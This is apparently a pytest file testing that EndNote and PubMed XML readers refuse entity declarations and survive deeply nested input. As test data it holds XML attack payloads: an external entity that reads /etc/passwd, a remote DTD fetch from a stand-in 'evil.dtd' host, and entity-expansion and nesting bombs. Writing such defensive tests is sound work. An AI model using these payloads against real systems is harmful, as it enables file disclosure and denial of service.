"""XML that wants to do harm, and XML that is only broken."""

import time

import pytest

from references.formats import endnote_xml, pubmed_xml

RECORD = (
    "<xml><records><record><titles><title>{}</title></titles></record></records></xml>"
)


@pytest.mark.parametrize(
    "declaration",
    [
        '<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">',
        '<!ENTITY b SYSTEM "file:///etc/passwd">',
        '<!ENTITY % b SYSTEM "http://192.0.2.1/evil.dtd"> %b;',
    ],
)
@pytest.mark.parametrize("read", [endnote_xml.read, pubmed_xml.read])
def test_declared_entities_are_refused(read, declaration):
    text = f"<!DOCTYPE x [{declaration}]>{RECORD.format('&b;')}"
    batch = read(text)
    assert batch.records == ()
    assert [(each.place, each.message, each.raw) for each in batch.problems] == [
        (
            "whole file",
            "The file declares XML entities, which can be a trap, so it was not read.",
            text,
        )
    ]


def test_undeclared_entities_and_forbidden_characters_are_forgiven():
    batch = endnote_xml.read(RECORD.format("A &nbsp;&eacute; &amp; &#x1F;\x0bB"))
    assert [record.item["title"] for record in batch.records] == ["A é & B"]


def test_a_document_type_inside_a_record_is_a_problem():
    batch = endnote_xml.read(RECORD.format('<!DOCTYPE x SYSTEM "y">'))
    assert len(batch.problems) == 1
    assert batch.records == ()


@pytest.mark.parametrize(
    "text",
    [
        RECORD.format("<b>" * 50_000 + "x" + "</b>" * 50_000),
        "<record>" * 5_000,
        "<record " * 5_000,
    ],
    ids=["deep", "unclosed", "half a tag"],
)
def test_tricks_cost_little(text):
    start = time.process_time()
    endnote_xml.read(text)
    assert time.process_time() - start < 5
